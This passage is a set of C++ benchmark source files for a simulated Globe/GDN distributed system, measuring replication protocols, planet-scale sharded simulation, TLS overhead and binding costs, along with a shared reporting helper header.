      replicas.push_back(std::move(*replica));
      Status status = Unavailable("pending");
      replicas.back()->Start([&](Status s) { status = s; });
      simulator.Run();
      if (!status.ok()) {
        std::printf("replica start failed: %s\n", status.ToString().c_str());
        std::exit(1);
      }
    }
    // client/server admits no secondaries: clients will hit the single master.
  }

  // One client proxy near each replica (or near the master for client/server).
  std::vector<std::unique_ptr<dso::ReplicationObject>> proxies;
  std::vector<sim::NodeId> client_hosts = {world.hosts[1], world.hosts[5],
                                           world.hosts[9]};
  for (size_t i = 0; i < client_hosts.size(); ++i) {
    const auto& target = replicas[std::min(i, replicas.size() - 1)];
    auto proxy = std::make_unique<dso::RemoteProxy>(&transport, client_hosts[i],
                                                    *target->contact_address());
    proxies.push_back(std::move(proxy));
  }

  network.mutable_stats()->Clear();
  Rng rng(0xe7 + static_cast<uint64_t>(write_fraction * 100));
  MixResult result;
  double total_ms = 0;
  int completed = 0;

  for (int op = 0; op < kOperations; ++op) {
    auto& proxy = proxies[rng.UniformInt(proxies.size())];
    bool is_write = rng.Bernoulli(write_fraction);
    dso::Invocation invocation =
        is_write ? gdn::pkg::AddFile("delta" + std::to_string(op % 8), Bytes(512, 0x22))
                 : gdn::pkg::GetFileInfo("base");
    sim::SimTime started = simulator.Now();
    sim::SimTime finished = started;
    bool ok = false;
    proxy->Invoke(invocation, [&](Result<Bytes> r) {
      finished = simulator.Now();
      ok = r.ok();
    });
    simulator.Run();
    if (ok) {
      total_ms += sim::ToMillis(finished - started);
      ++completed;
    }
    if (is_write) {
      uint64_t master_version = replicas[0]->version();
      for (size_t i = 1; i < replicas.size(); ++i) {
        uint64_t lag = master_version - std::min(master_version, replicas[i]->version());
        result.max_staleness = std::max(result.max_staleness, lag);
      }
    }
  }
  result.mean_op_ms = completed > 0 ? total_ms / completed : 0;
  result.wan_bytes = network.stats().BytesAtOrAbove(1);
  return result;
}

}  // namespace

int main() {
  bench::Title("E7 bench_replication_protocols",
               "protocol comparison across read/write mixes (paper 3.2-3.3)");
  bench::Note("%d ops, 200 KB object, 512 B writes, 3 clients near 3 replica sites",
              kOperations);

  struct Proto {
    gls::ProtocolId id;
    const char* name;
  };
  std::vector<Proto> protocols = {
      {dso::kProtoClientServer, "client/server"},
      {dso::kProtoMasterSlave, "master/slave"},
      {dso::kProtoActiveRepl, "active"},
      {dso::kProtoCacheInval, "cache/inval"},
  };

  for (double writes : {0.0, 0.05, 0.2, 0.5}) {
    std::printf("\n--- write fraction %.0f%% ---\n", writes * 100);
    bench::Table table({"protocol", "mean op", "WAN bytes", "max staleness"});
    for (const Proto& proto : protocols) {
      MixResult r = RunMix(proto.id, writes);
      table.Row({proto.name, Fmt("%.1f ms", r.mean_op_ms), FormatBytes(r.wan_bytes),
                 Fmt("%llu", (unsigned long long)r.max_staleness)});
    }
  }

  bench::Note("");
  bench::Note("expected shape (paper): no single protocol wins every mix - the reason");
  bench::Note("Globe makes replication pluggable per object. client/server is flat and");
  bench::Note("slow (all ops remote); master/slave and active replication serve reads");
  bench::Note(
      "locally, with active replication far cheaper per write (it ships the 512 B");
  bench::Note(
      "invocation, not the 200 KB state); cache/inval excels when writes are rare.");
  return 0;
}
