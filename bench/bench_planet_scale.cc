// E12 — planet-scale worlds: the sharded deterministic event engine and the
// memory-bounded directory subnodes, pushed to the scale the tentpole names —
// a million registered OIDs and a hundred thousand client machines throwing a
// Zipf flash crowd at the location service.
//
// The same pre-generated workload runs twice: once on the sequential
// sim::Simulator, once on a 4-shard sim::ShardedSimulator (one shard per
// continent). Reported per engine: host wall-clock per phase, executed events,
// events/sec over the flash crowd, lookup success, store spill traffic and
// peak RSS. The bench fails if any registration is lost (a lookup that finds
// no address), if bounded subnodes never evict/fault, or if any subnode's
// resident set ever exceeded its capacity.
//
// Mid-run the root directory node — holding a forwarding pointer for every one
// of the million OIDs — crosses the capacity-driven split threshold and is
// repartitioned live from one subnode to two (GlsDeployment::
// SplitOverloadedNodes); the flash crowd then routes against the split node.
//
// NOTE on speedup: shards only help with real cores. On a single-core host the
// sharded run degenerates to inline windows and the honest speedup is ~1x; the
// row exists so multi-core hosts (CI: 4 vCPUs) can watch the ratio.
//
// Scale knobs (env): GLOBE_PLANET_OIDS, GLOBE_PLANET_CLIENTS for quick local
// iteration; defaults are the tentpole scale.

#include <atomic>
#include <cinttypes>

#include "bench/bench_util.h"
#include "src/gls/deploy.h"
#include "src/sim/backend.h"

using namespace globe;
using bench::Fmt;

namespace {

constexpr size_t kShards = 4;
constexpr size_t kCountries = 16;  // fanouts {4,4}: 4 continents x 4 countries
constexpr size_t kBatch = 1000;    // OIDs per gls.insert_batch
constexpr size_t kStoreCapacity = 4096;  // resident entries per subnode

size_t EnvOr(const char* name, size_t fallback) {
  const char* value = std::getenv(name);
  return value != nullptr ? std::strtoull(value, nullptr, 10) : fallback;
}

// The workload, generated once so both engines replay the identical scenario.
struct Workload {
  std::vector<gls::ObjectId> oids;        // oids[i] registered in country i%16
  std::vector<uint32_t> lookup_oid;       // flash crowd: client j looks this up
};

struct RunResult {
  double insert_wall = 0;
  double split_wall = 0;
  double crowd_wall = 0;
  uint64_t executed = 0;
  double crowd_events_per_sec = 0;
  uint64_t lookups_ok = 0;
  uint64_t lookups_lost = 0;  // failed, or resolved to an empty address set
  uint64_t evictions = 0;
  uint64_t fault_ins = 0;
  uint64_t spilled_bytes = 0;
  bool over_capacity = false;
  int splits = 0;
  size_t root_subnodes = 0;
  size_t root_entries = 0;
  uint64_t windows = 0;
  uint64_t parallel_windows = 0;
  uint64_t lookahead_violations = 0;
  double peak_rss_mb = 0;
};

RunResult RunWorld(size_t shards, const Workload& load, size_t clients) {
  RunResult result;
  sim::UniformWorld world =
      sim::BuildUniformWorld({4, 4}, static_cast<int>(clients / kCountries));
  sim::NetworkOptions net_options;

  // Continent (depth-1 domain) of a node, for shard homing.
  auto continent_of = [&](sim::NodeId node) {
    sim::DomainId d = world.topology.NodeDomain(node);
    while (world.topology.DomainDepth(d) > 1) {
      d = world.topology.DomainParent(d);
    }
    return d;
  };

  std::unique_ptr<sim::EventEngine> engine;
  sim::ShardedSimulator* sharded = nullptr;
  if (shards > 1) {
    // Lookahead: any cross-shard message climbs at least one level (distinct
    // continents only meet at the root), so the ascent-level-1 propagation
    // latency lower-bounds every cross-shard delivery — transmit time and
    // per-message overhead only add to it. Using host-to-host cross-continent
    // latency instead would over-estimate: a continent-level directory host
    // talking to a root-level host is only one level of ascent.
    double min_latency = net_options.profile.LatencyAt(1);
    auto owned = std::make_unique<sim::ShardedSimulator>(
        shards, static_cast<sim::SimTime>(min_latency));
    sharded = owned.get();
    engine = std::move(owned);
  } else {
    engine = std::make_unique<sim::Simulator>();
  }

  // Home every node on its continent's shard. Assignment must happen BEFORE a
  // node's services register ports: the network keeps per-shard handler maps,
  // so a port registered under the wrong shard is unreachable. The world hosts
  // are assigned up front; GLS hosts (including those added later by a split)
  // are assigned at creation via the deployment's on_host_created hook.
  std::map<sim::DomainId, size_t> continent_index;
  auto assign_node = [&](sim::NodeId node) {
    if (sharded == nullptr) {
      return;
    }
    sim::DomainId c = continent_of(node);
    size_t index = continent_index.emplace(c, continent_index.size()).first->second;
    sharded->AssignNode(node, index % shards);
  };
  for (sim::NodeId node = 0; node < world.topology.num_nodes(); ++node) {
    assign_node(node);
  }

  sim::Network network(engine.get(), &world.topology, net_options);
  sim::PlainTransport transport(&network);

  gls::GlsDeploymentOptions options;
  options.node_options.enable_cache = true;
  options.node_options.store_capacity = kStoreCapacity;
  gls::GlsDeployment deployment(&transport, &world.topology, nullptr, options,
                                assign_node);

  // ---- Phase 1: registration. Each country's registrar host batch-inserts
  // its slice of the OID space (oids[i] belongs to country i%16). Completion
  // counters are atomics: the callbacks run on the shard worker threads.
  bench::Stopwatch wall;
  size_t hosts_per_country = world.hosts.size() / kCountries;
  std::atomic<uint64_t> insert_failures{0};
  std::atomic<uint64_t> batches_done{0};
  uint64_t batches_scheduled = 0;
  std::vector<std::shared_ptr<gls::GlsClient>> registrars;
  for (size_t c = 0; c < kCountries; ++c) {
    sim::NodeId registrar = world.hosts[c * hosts_per_country];
    auto client = std::make_shared<gls::GlsClient>(
        &transport, registrar, deployment.LeafDirectoryFor(registrar));
    registrars.push_back(client);
    size_t per_country = (load.oids.size() + kCountries - 1 - c) / kCountries;
    for (size_t b = 0; b * kBatch < per_country; ++b) {
      size_t begin = b * kBatch;
      size_t end = std::min(begin + kBatch, per_country);
      ++batches_scheduled;
      // Stagger batches so the in-flight window stays bounded.
      engine->ScheduleAtForNode(
          registrar, 1 + b * 10 * sim::kMillisecond,
          [&, client, registrar, c, begin, end] {
            std::vector<std::pair<gls::ObjectId, gls::ContactAddress>> items;
            items.reserve(end - begin);
            for (size_t k = begin; k < end; ++k) {
              items.emplace_back(load.oids[c + kCountries * k],
                                 gls::ContactAddress{{registrar, sim::kPortGos},
                                                     1,
                                                     gls::ReplicaRole::kMaster});
            }
            client->InsertBatch(items, [&](Status s) {
              ++batches_done;
              if (!s.ok()) {
                ++insert_failures;
              }
            });
          });
    }
  }
  engine->Run();
  result.insert_wall = wall.Seconds();
  registrars.clear();
  if (insert_failures > 0 || batches_done != batches_scheduled) {
    std::printf("registration incomplete: %" PRIu64 " failed, %" PRIu64 "/%" PRIu64
                " acked\n",
                insert_failures.load(), batches_done.load(), batches_scheduled);
    std::exit(1);
  }

  // ---- Phase 2: capacity-driven split. The root holds a pointer entry per
  // OID; any subnode over a quarter of the OID space triggers a split.
  wall.Reset();
  result.splits = deployment.SplitOverloadedNodes(load.oids.size() / 4);
  result.split_wall = wall.Seconds();
  const gls::DirectoryRef& root = deployment.DirectoryFor(0);
  result.root_subnodes = root.subnodes.size();
  for (const auto* subnode : deployment.SubnodesOf(0)) {
    result.root_entries += subnode->TotalEntries();
  }

  // ---- Phase 3: Zipf flash crowd. Every client host issues one cached
  // lookup of its pre-sampled OID, 1us apart (waves of arrival, not a bang).
  wall.Reset();
  uint64_t executed_before = engine->executed_events();
  sim::SimTime t0 = engine->Now() + 1;
  std::atomic<uint64_t> lookups_ok{0};
  std::atomic<uint64_t> lookups_lost{0};
  std::vector<std::shared_ptr<gls::GlsClient>> crowd;
  crowd.reserve(clients);
  for (size_t j = 0; j < clients; ++j) {
    sim::NodeId host = world.hosts[j % world.hosts.size()];
    auto client = std::make_shared<gls::GlsClient>(
        &transport, host, deployment.LeafDirectoryFor(host));
    client->set_allow_cached(true);
    crowd.push_back(client);
    const gls::ObjectId& oid = load.oids[load.lookup_oid[j]];
    engine->ScheduleAtForNode(host, t0 + j, [&, client, oid] {
      client->Lookup(oid, [&](Result<gls::LookupResult> r) {
        if (r.ok() && !r->addresses.empty()) {
          ++lookups_ok;
        } else {
          ++lookups_lost;
        }
      });
    });
  }
  engine->Run();
  result.lookups_ok = lookups_ok;
  result.lookups_lost = lookups_lost;
  result.crowd_wall = wall.Seconds();
  result.executed = engine->executed_events();
  result.crowd_events_per_sec =
      result.crowd_wall > 0
          ? static_cast<double>(result.executed - executed_before) / result.crowd_wall
          : 0;

  gls::SubnodeStats totals = deployment.TotalStats();
  result.evictions = totals.store_evictions;
  result.fault_ins = totals.store_fault_ins;
  result.spilled_bytes = totals.store_spilled_bytes;
  for (const auto& subnode : deployment.subnodes()) {
    if (subnode->stats().store_peak_resident > kStoreCapacity) {
      result.over_capacity = true;
    }
  }
  if (sharded != nullptr) {
    result.windows = sharded->windows_run();
    result.parallel_windows = sharded->parallel_windows();
    result.lookahead_violations = sharded->lookahead_violations();
  }
  result.peak_rss_mb = bench::PeakRssMb();
  return result;
}

}  // namespace

int main() {
  size_t num_oids = EnvOr("GLOBE_PLANET_OIDS", 1000000);
  size_t num_clients = EnvOr("GLOBE_PLANET_CLIENTS", 100000);
  num_clients -= num_clients % kCountries;  // equal hosts per country

  bench::Title("E12 bench_planet_scale",
               "sharded event engine + memory-bounded directory at planet scale");
  bench::Note("%zu OIDs registered, %zu client hosts, Zipf(1.0) flash crowd;",
              num_oids, num_clients);
  bench::Note("store capacity %zu entries/subnode; same workload on both engines.",
              kStoreCapacity);

  // One workload, replayed on both engines.
  Workload load;
  Rng oid_rng(0x9157);
  load.oids.reserve(num_oids);
  for (size_t i = 0; i < num_oids; ++i) {
    load.oids.push_back(gls::ObjectId::Generate(&oid_rng));
  }
  ZipfSampler zipf(num_oids, 1.0);
  Rng crowd_rng(0x424242);
  load.lookup_oid.reserve(num_clients);
  for (size_t j = 0; j < num_clients; ++j) {
    load.lookup_oid.push_back(static_cast<uint32_t>(zipf.Sample(&crowd_rng)));
  }

  RunResult sequential = RunWorld(1, load, num_clients);
  RunResult sharded = RunWorld(kShards, load, num_clients);

  bench::Table table({"engine", "insert s", "split s", "crowd s", "events",
                      "events/sec", "lookups ok", "lost", "peak RSS MB"});
  auto row = [&](const char* label, const RunResult& r) {
    table.Row({label, Fmt("%.2f", r.insert_wall), Fmt("%.2f", r.split_wall),
               Fmt("%.2f", r.crowd_wall), Fmt("%" PRIu64, r.executed),
               Fmt("%.0f", r.crowd_events_per_sec), Fmt("%" PRIu64, r.lookups_ok),
               Fmt("%" PRIu64, r.lookups_lost), Fmt("%.0f", r.peak_rss_mb)});
  };
  row("sequential", sequential);
  row(Fmt("sharded x%zu", kShards).c_str(), sharded);

  bench::Table details({"metric", "sequential", "sharded"});
  details.Row({"splits (root 1->2)", Fmt("%d", sequential.splits),
               Fmt("%d", sharded.splits)});
  details.Row({"root entries after split", Fmt("%zu", sequential.root_entries),
               Fmt("%zu", sharded.root_entries)});
  details.Row({"store evictions", Fmt("%" PRIu64, sequential.evictions),
               Fmt("%" PRIu64, sharded.evictions)});
  details.Row({"store fault-ins", Fmt("%" PRIu64, sequential.fault_ins),
               Fmt("%" PRIu64, sharded.fault_ins)});
  details.Row({"spilled MB", Fmt("%.1f", sequential.spilled_bytes / 1048576.0),
               Fmt("%.1f", sharded.spilled_bytes / 1048576.0)});
  details.Row({"windows run", "-", Fmt("%" PRIu64, sharded.windows)});
  details.Row({"parallel windows", "-", Fmt("%" PRIu64, sharded.parallel_windows)});
  details.Row({"lookahead violations", "-",
               Fmt("%" PRIu64, sharded.lookahead_violations)});

  double speedup = sharded.crowd_wall > 0
                       ? sequential.crowd_wall / sharded.crowd_wall
                       : 0;
  bench::Note("");
  bench::Note("flash-crowd speedup sharded vs sequential: %.2fx (machine-bound;",
              speedup);
  bench::Note("~1x expected on a 1-core host where windows run inline).");

  // Hard guarantees the tentpole names.
  for (const RunResult* r : {&sequential, &sharded}) {
    if (r->lookups_lost > 0) {
      std::printf("FAIL: %" PRIu64 " lookups lost a registration\n",
                  r->lookups_lost);
      return 1;
    }
    if (r->evictions == 0 || r->fault_ins == 0) {
      std::printf("FAIL: bounded store never evicted/faulted\n");
      return 1;
    }
    if (r->over_capacity) {
      std::printf("FAIL: a subnode exceeded its resident capacity\n");
      return 1;
    }
    if (r->splits != 1 || r->root_subnodes != 2 || r->root_entries != num_oids) {
      std::printf("FAIL: capacity-driven root split went wrong "
                  "(splits=%d subnodes=%zu entries=%zu)\n",
                  r->splits, r->root_subnodes, r->root_entries);
      return 1;
    }
  }
  if (sharded.lookups_ok != sequential.lookups_ok) {
    std::printf("FAIL: engines disagree on lookup outcomes (%" PRIu64
                " vs %" PRIu64 ")\n",
                sequential.lookups_ok, sharded.lookups_ok);
    return 1;
  }
  return 0;
}
