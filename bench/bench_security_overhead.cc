// E6 — TLS security overhead: "paying for something we do not need" (paper §6.3,
// Figure 4).
//
// Claim: the GDN needs authentication and integrity; TLS adds confidentiality on
// top, and "if performance is affected too negatively by the superfluous encryption
// and decryption we will have to rethink our security scheme."
//
// Workload: a user downloads a 1 MB package through the full GDN path under three
// channel configurations: plain (June-2000 first version), authentication+integrity
// only, and authentication+integrity+encryption (stock TLS). Reported: download
// latency, handshakes, simulated crypto CPU, and wire bytes.
//
// Expected shape: auth+integrity costs a handshake plus per-byte MACs; encryption
// multiplies the per-byte CPU several-fold without changing what the GDN actually
// gets — exactly the trade-off the paper flags.

#include "bench/bench_util.h"
#include "src/gdn/world.h"

using namespace globe;
using bench::Fmt;

namespace {

constexpr size_t kPackageBytes = 1 << 20;

struct RunResult {
  double first_ms = 0;   // includes handshakes
  double repeat_ms = 0;  // warm channels
  uint64_t handshakes = 0;
  double crypto_ms = 0;
  uint64_t wire_bytes = 0;
};

RunResult Run(bool secure, bool encrypt) {
  gdn::GdnWorldConfig config;
  config.fanouts = {2, 2};
  config.user_hosts_per_site = 2;
  config.secure = secure;
  config.encrypt = encrypt;
  gdn::GdnWorld world(config);

  auto oid = world.PublishPackage("/apps/sec/dist", {{"blob", Bytes(kPackageBytes, 9)}},
                                  dso::kProtoMasterSlave, 0,
                                  {world.num_countries() - 1});
  if (!oid.ok()) {
    std::printf("publish failed: %s\n", oid.status().ToString().c_str());
    std::exit(1);
  }

  sim::NodeId user = world.user_hosts().back();
  world.network().mutable_stats()->Clear();
  if (secure) {
    world.secure_transport()->mutable_stats()->Clear();
  }

  RunResult result;
  auto first = world.DownloadFile(user, "/apps/sec/dist", "blob");
  if (!first.ok()) {
    std::printf("download failed: %s\n", first.status().ToString().c_str());
    std::exit(1);
  }
  result.first_ms = sim::ToMillis(world.last_op_duration());

  auto repeat = world.DownloadFile(user, "/apps/sec/dist", "blob");
  if (repeat.ok()) {
    result.repeat_ms = sim::ToMillis(world.last_op_duration());
  }

  result.wire_bytes = world.network().stats().TotalBytes();
  if (secure) {
    result.handshakes = world.secure_transport()->stats().handshakes;
    result.crypto_ms = world.secure_transport()->stats().crypto_us / 1000.0;
  }
  return result;
}

}  // namespace

int main() {
  bench::Title("E6 bench_security_overhead",
               "plain vs auth+integrity vs full TLS on a 1 MB download (paper 6.3)");
  bench::Note("crypto model: MAC ~100 MB/s, cipher ~25 MB/s, 2-RTT handshake + 3 ms CPU");

  bench::Table table({"channel mode", "first dl", "repeat dl", "handshakes", "crypto CPU",
                      "wire bytes"},
                     15);

  RunResult plain = Run(false, false);
  table.Row({"plain", Fmt("%.1f ms", plain.first_ms), Fmt("%.1f ms", plain.repeat_ms), "0",
             "0 ms", FormatBytes(plain.wire_bytes)});

  RunResult auth = Run(true, false);
  table.Row({"auth+integrity", Fmt("%.1f ms", auth.first_ms), Fmt("%.1f ms", auth.repeat_ms),
             Fmt("%llu", (unsigned long long)auth.handshakes), Fmt("%.1f ms", auth.crypto_ms),
             FormatBytes(auth.wire_bytes)});

  RunResult full = Run(true, true);
  table.Row({"tls+encryption", Fmt("%.1f ms", full.first_ms), Fmt("%.1f ms", full.repeat_ms),
             Fmt("%llu", (unsigned long long)full.handshakes), Fmt("%.1f ms", full.crypto_ms),
             FormatBytes(full.wire_bytes)});

  if (auth.crypto_ms > 0) {
    bench::Note("");
    bench::Note("superfluous-encryption cost: %.1fx the crypto CPU of integrity-only",
                full.crypto_ms / auth.crypto_ms);
  }
  bench::Note("");
  bench::Note("expected shape (paper): integrity+authentication adds handshake latency on");
  bench::Note("first contact and modest per-byte cost; full TLS multiplies crypto CPU for");
  bench::Note("confidentiality the GDN does not need - free software is public. This is");
  bench::Note("the measurement behind 6.3's 'we are paying for something we do not need'.");
  return 0;
}
