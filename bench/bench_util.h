// Shared helpers for the experiment benchmarks (see DESIGN.md's experiment index).
//
// Each bench binary regenerates one table/figure: it builds a deterministic
// simulated world, runs the workload, and prints the rows the paper's evaluation
// would have contained. Latencies are virtual (simulated) time; "WAN bytes" are the
// network's per-level traffic counters at or above the country level.

#ifndef BENCH_BENCH_UTIL_H_
#define BENCH_BENCH_UTIL_H_

#include <cstdarg>
#include <cstdio>
#include <string>
#include <vector>

#include "src/sim/simulator.h"
#include "src/util/strings.h"

namespace globe::bench {

inline void Title(const std::string& id, const std::string& what) {
  std::printf("\n================================================================\n");
  std::printf("%s: %s\n", id.c_str(), what.c_str());
  std::printf("================================================================\n");
}

inline void Note(const char* fmt, ...) {
  va_list args;
  va_start(args, fmt);
  std::printf("  ");
  std::vprintf(fmt, args);
  std::printf("\n");
  va_end(args);
}

// Fixed-width table output.
class Table {
 public:
  explicit Table(std::vector<std::string> headers, int column_width = 14)
      : num_columns_(headers.size()), width_(column_width) {
    std::printf("\n");
    for (const auto& header : headers) {
      std::printf("%-*s", width_, header.c_str());
    }
    std::printf("\n");
    for (size_t i = 0; i < num_columns_ * static_cast<size_t>(width_); ++i) {
      std::printf("-");
    }
    std::printf("\n");
  }

  void Row(const std::vector<std::string>& cells) {
    for (const auto& cell : cells) {
      std::printf("%-*s", width_, cell.c_str());
    }
    std::printf("\n");
  }

 private:
  size_t num_columns_;
  int width_;
};

inline std::string Fmt(const char* fmt, ...) {
  char buf[128];
  va_list args;
  va_start(args, fmt);
  std::vsnprintf(buf, sizeof(buf), fmt, args);
  va_end(args);
  return buf;
}

inline std::string Ms(sim::SimTime t) { return Fmt("%.1f ms", sim::ToMillis(t)); }
inline std::string Ms(double us) { return Fmt("%.1f ms", us / 1000.0); }

}  // namespace globe::bench

#endif  // BENCH_BENCH_UTIL_H_
