// Shared helpers for the experiment benchmarks (see DESIGN.md's experiment index).
//
// Each bench binary regenerates one table/figure: it builds a deterministic
// simulated world, runs the workload, and prints the rows the paper's evaluation
// would have contained. Latencies are virtual (simulated) time; "WAN bytes" are the
// network's per-level traffic counters at or above the country level.

#ifndef BENCH_BENCH_UTIL_H_
#define BENCH_BENCH_UTIL_H_

#include <sys/resource.h>

#include <chrono>
#include <cstdarg>
#include <cstdio>
#include <cstdlib>
#include <string>
#include <vector>

#include "src/sim/clock.h"
#include "src/util/strings.h"

namespace globe::bench {

// Real (host) elapsed time, for the perf-facing benches: virtual time measures
// protocol cost, wall time measures the engine itself.
class Stopwatch {
 public:
  Stopwatch() : start_(std::chrono::steady_clock::now()) {}
  void Reset() { start_ = std::chrono::steady_clock::now(); }
  double Seconds() const {
    return std::chrono::duration<double>(std::chrono::steady_clock::now() - start_)
        .count();
  }

 private:
  std::chrono::steady_clock::time_point start_;
};

// Peak resident set size of this process in MiB (ru_maxrss is KiB on Linux).
inline double PeakRssMb() {
  struct rusage usage {};
  getrusage(RUSAGE_SELF, &usage);
  return static_cast<double>(usage.ru_maxrss) / 1024.0;
}

// Mirrors everything a bench binary prints (title, notes, tables) and writes it
// as BENCH_<name>.json on exit, so the perf trajectory can diff runs without
// scraping stdout. The output directory defaults to the working directory and
// can be overridden with GLOBE_BENCH_JSON_DIR (the CMake `bench` target points
// it at the repo root).
class JsonReport {
 public:
  static JsonReport& Get() {
    static JsonReport report;
    return report;
  }

  void Begin(const std::string& id, const std::string& what) {
    id_ = id;
    what_ = what;
  }

  size_t AddTable(const std::vector<std::string>& headers) {
    tables_.push_back(TableData{headers, {}});
    return tables_.size() - 1;
  }

  void AddRow(size_t table, const std::vector<std::string>& cells) {
    if (table < tables_.size()) tables_[table].rows.push_back(cells);
  }

  void AddNote(const std::string& text) { notes_.push_back(text); }

  ~JsonReport() {
    if (id_.empty()) return;
    const char* dir = std::getenv("GLOBE_BENCH_JSON_DIR");
    std::string path = std::string(dir != nullptr ? dir : ".") + "/BENCH_" +
                       FileKey() + ".json";
    std::FILE* out = std::fopen(path.c_str(), "w");
    if (out == nullptr) return;
    // Host-side cost of producing the report: every bench carries these two, so
    // the perf trajectory can watch engine wall time and memory, not just the
    // virtual-time tables.
    std::fprintf(out,
                 "{\n  \"id\": %s,\n  \"title\": %s,\n"
                 "  \"wall_seconds\": %.3f,\n  \"peak_rss_mb\": %.1f,\n"
                 "  \"notes\": [",
                 Quote(id_).c_str(), Quote(what_).c_str(), wall_.Seconds(),
                 PeakRssMb());
    for (size_t i = 0; i < notes_.size(); ++i) {
      std::fprintf(out, "%s\n    %s", i == 0 ? "" : ",", Quote(notes_[i]).c_str());
    }
    std::fprintf(out, "%s],\n  \"tables\": [", notes_.empty() ? "" : "\n  ");
    for (size_t t = 0; t < tables_.size(); ++t) {
      std::fprintf(out, "%s\n    {\"headers\": ", t == 0 ? "" : ",");
      WriteStringArray(out, tables_[t].headers);
      std::fprintf(out, ", \"rows\": [");
      for (size_t r = 0; r < tables_[t].rows.size(); ++r) {
        std::fprintf(out, "%s\n      ", r == 0 ? "" : ",");
        WriteStringArray(out, tables_[t].rows[r]);
      }
      std::fprintf(out, "%s]}", tables_[t].rows.empty() ? "" : "\n    ");
    }
    std::fprintf(out, "%s]\n}\n", tables_.empty() ? "" : "\n  ");
    std::fclose(out);
  }

 private:
  struct TableData {
    std::vector<std::string> headers;
    std::vector<std::vector<std::string>> rows;
  };

  // "E5 bench_binding" -> "binding"; otherwise the id with spaces flattened.
  std::string FileKey() const {
    for (const std::string& token : SplitSkipEmpty(id_, ' ')) {
      if (StartsWith(token, "bench_")) return token.substr(6);
    }
    std::string key = id_;
    for (char& c : key) {
      if (c == ' ' || c == '/') c = '_';
    }
    return key;
  }

  static std::string Quote(const std::string& s) {
    std::string out = "\"";
    for (char c : s) {
      switch (c) {
        case '"': out += "\\\""; break;
        case '\\': out += "\\\\"; break;
        case '\n': out += "\\n"; break;
        case '\t': out += "\\t"; break;
        default:
          if (static_cast<unsigned char>(c) < 0x20) {
            char buf[8];
            std::snprintf(buf, sizeof(buf), "\\u%04x", c);
            out += buf;
          } else {
            out += c;
          }
      }
    }
    out += '"';
    return out;
  }

  static void WriteStringArray(std::FILE* out, const std::vector<std::string>& v) {
    std::fprintf(out, "[");
    for (size_t i = 0; i < v.size(); ++i) {
      std::fprintf(out, "%s%s", i == 0 ? "" : ", ", Quote(v[i]).c_str());
    }
    std::fprintf(out, "]");
  }

  std::string id_;
  std::string what_;
  Stopwatch wall_;  // started when the bench first touches the report
  std::vector<std::string> notes_;
  std::vector<TableData> tables_;
};

inline void Title(const std::string& id, const std::string& what) {
  JsonReport::Get().Begin(id, what);
  std::printf("\n================================================================\n");
  std::printf("%s: %s\n", id.c_str(), what.c_str());
  std::printf("================================================================\n");
}

inline void Note(const char* fmt, ...) {
  va_list args;
  va_start(args, fmt);
  va_list measure;
  va_copy(measure, args);
  int length = std::vsnprintf(nullptr, 0, fmt, measure);
  va_end(measure);
  std::string text(length > 0 ? static_cast<size_t>(length) : 0, '\0');
  if (length > 0) {
    std::vsnprintf(text.data(), text.size() + 1, fmt, args);
  }
  va_end(args);
  JsonReport::Get().AddNote(text);
  std::printf("  %s\n", text.c_str());
}

// Fixed-width table output.
class Table {
 public:
  explicit Table(std::vector<std::string> headers, int column_width = 14)
      : num_columns_(headers.size()),
        width_(column_width),
        json_index_(JsonReport::Get().AddTable(headers)) {
    std::printf("\n");
    for (const auto& header : headers) {
      std::printf("%-*s", width_, header.c_str());
    }
    std::printf("\n");
    for (size_t i = 0; i < num_columns_ * static_cast<size_t>(width_); ++i) {
      std::printf("-");
    }
    std::printf("\n");
  }

  void Row(const std::vector<std::string>& cells) {
    JsonReport::Get().AddRow(json_index_, cells);
    for (const auto& cell : cells) {
      std::printf("%-*s", width_, cell.c_str());
    }
    std::printf("\n");
  }

 private:
  size_t num_columns_;
  int width_;
  size_t json_index_;
};

inline std::string Fmt(const char* fmt, ...) {
  char buf[128];
  va_list args;
  va_start(args, fmt);
  std::vsnprintf(buf, sizeof(buf), fmt, args);
  va_end(args);
  return buf;
}

inline std::string Ms(sim::SimTime t) { return Fmt("%.1f ms", sim::ToMillis(t)); }
inline std::string Ms(double us) { return Fmt("%.1f ms", us / 1000.0); }

}  // namespace globe::bench

#endif  // BENCH_BENCH_UTIL_H_
