// E5 — binding cost breakdown and the two-level naming assumption (paper §3.4, §5).
//
// Claim: binding = GNS resolve (name -> OID) + GLS lookup (OID -> contact address) +
// local-representative installation. The two-level scheme works because "we expect
// our name-to-object-identifier mappings to be stable", so DNS caching absorbs the
// GNS step: repeat binds resolve locally.
//
// Workload: bind to a package from a fresh client, breaking out the GNS and GLS
// phases; then sweep the TXT record TTL and measure resolver cache hit ratios over a
// request sequence with re-binds spread over time.
//
// Expected shape: a cold bind pays one resolver round trip to the authoritative
// server plus the GLS walk; warm binds cut the GNS phase to a resolver (local) hit;
// longer TTLs push the hit ratio toward 1 until the TTL exceeds the re-bind spacing.

#include "bench/bench_util.h"
#include "src/gdn/world.h"

using namespace globe;
using bench::Fmt;

namespace {

// Measures one full name-bind from a given user, phase by phase.
struct BindPhases {
  sim::SimTime gns_us = 0;
  sim::SimTime gls_us = 0;
  sim::SimTime install_us = 0;
  bool from_cache = false;
};

BindPhases MeasureBind(gdn::GdnWorld& world, sim::NodeId user, const std::string& name) {
  BindPhases phases;

  // Phase 1: GNS resolve.
  dns::GnsClient gns(world.transport(), user, world.config().zone,
                     world.naming_authority()->endpoint(), world.ResolverEndpointFor(user));
  std::string oid_hex;
  sim::SimTime t0 = world.simulator().Now();
  sim::SimTime t1 = t0;
  gns.Resolve(name, [&](Result<std::string> r) {
    t1 = world.simulator().Now();
    if (r.ok()) {
      oid_hex = *r;
    }
  });
  world.Run();
  phases.gns_us = t1 - t0;
  if (oid_hex.empty()) {
    std::printf("resolve failed\n");
    std::exit(1);
  }
  auto oid = gls::ObjectId::FromHex(oid_hex);

  // Phase 2: GLS lookup.
  gls::GlsClient gls_client(world.transport(), user, world.gls().LeafDirectoryFor(user));
  std::vector<gls::ContactAddress> addresses;
  t0 = world.simulator().Now();
  t1 = t0;
  gls_client.Lookup(*oid, [&](Result<gls::LookupResult> r) {
    t1 = world.simulator().Now();
    if (r.ok()) {
      addresses = r->addresses;
    }
  });
  world.Run();
  phases.gls_us = t1 - t0;

  // Phase 3: local representative installation (proxy construction is local; a
  // replica install would add the state fetch, covered in E7).
  t0 = world.simulator().Now();
  auto proxy = dso::MakeProxy(world.transport(), user, addresses);
  phases.install_us = world.simulator().Now() - t0;
  return phases;
}

}  // namespace

int main() {
